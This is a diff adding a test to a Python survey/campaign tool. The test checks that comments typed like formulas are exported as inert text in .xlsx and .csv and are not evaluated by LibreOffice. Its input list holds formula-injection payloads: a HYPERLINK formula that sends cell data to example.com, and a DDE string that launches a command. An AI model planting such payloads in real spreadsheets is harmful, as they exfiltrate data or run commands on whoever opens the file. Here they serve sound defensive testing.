@@ -433,3 +433,56 @@ def test_rows_imported_by_an_earlier_release_are_not_counted_again(campaign, tmp
     assert "0 new" in result.output and "8 were already" in result.output, result.output
     with open_campaign(campaign) as c:
         assert len(export_frame(c)) == 8
+
+
+FORMULAS = ['=HYPERLINK("http://example.com/?q="&A2,"bấm vào đây")', "=1+1", "+84 912 345 678",
+            "-phòng chờ chật", "@SUM(1,2)", "=cmd|' /C calc'!A0", "https://example.com/x"]
+
+
+def test_the_export_is_data_not_programs(tmp_path):
+    """Comments typed on a web form as formulas, a link or a sign: the export keeps them as
+    the text they are, in .xlsx (text cells) and in .csv (a leading '), and LibreOffice,
+    opening either, finds no formula and no link."""
+    import subprocess
+
+    import openpyxl
+
+    c = tmp_path / "c"
+    assert run_cli("new", c, "--layout", REFERENCE).exit_code == 0
+    people = _people(len(FORMULAS), 41)
+    for person, text in zip(people, FORMULAS, strict=True):
+        person["y_kien"] = text
+    google(people).to_csv(tmp_path / "online.csv", index=False)
+    assert "7 counted" in run_cli("import", c, tmp_path / "online.csv").output
+    for name in ("export.xlsx", "export.csv"):
+        assert run_cli("export", c, "--out", tmp_path / name).exit_code == 0
+    sheet = openpyxl.load_workbook(tmp_path / "export.xlsx")["phieu"]
+    header = [cell.value for cell in sheet[1]]
+    column = header.index("y_kien")
+    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
+    assert [cell.value for cell in cells] == FORMULAS  # the text as typed ...
+    assert {cell.data_type for cell in cells} == {"s"}  # ... as text: no formula
+    assert not any(cell.hyperlink for cell in cells)  # no link
+    back = pd.read_csv(tmp_path / "export.csv", dtype=str, keep_default_na=False)
+    assert back["y_kien"].tolist() == [t if t.startswith("http") else f"'{t}" for t in FORMULAS]
+    out = tmp_path / "lo"
+    for name, infilter in (("export.xlsx", []),  # LibreOffice's CSV import evaluating formulas
+                           ("export.csv", ["--infilter=CSV:44,34,76,1,,0,false,true,false,"
+                                           "false,false,-1,true"])):
+        subprocess.run(["soffice", "--headless", *infilter, "--convert-to", "ods", "--outdir",
+                        str(out / name), str(tmp_path / name)], check=True,
+                       capture_output=True, timeout=180,
+                       env={"HOME": str(out), "PATH": "/usr/bin:/bin"})
+        ods = next((out / name).iterdir()).read_bytes()
+        content = _ods_content(ods)
+        assert "table:formula" not in content, name  # no cell is a formula
+        assert "xlink:href" not in content, name  # no cell is a link
+        assert "bấm vào đây" in content
+
+
+def _ods_content(ods: bytes) -> str:
+    import io
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(ods)) as z:
+        return z.read("content.xml").decode("utf-8")
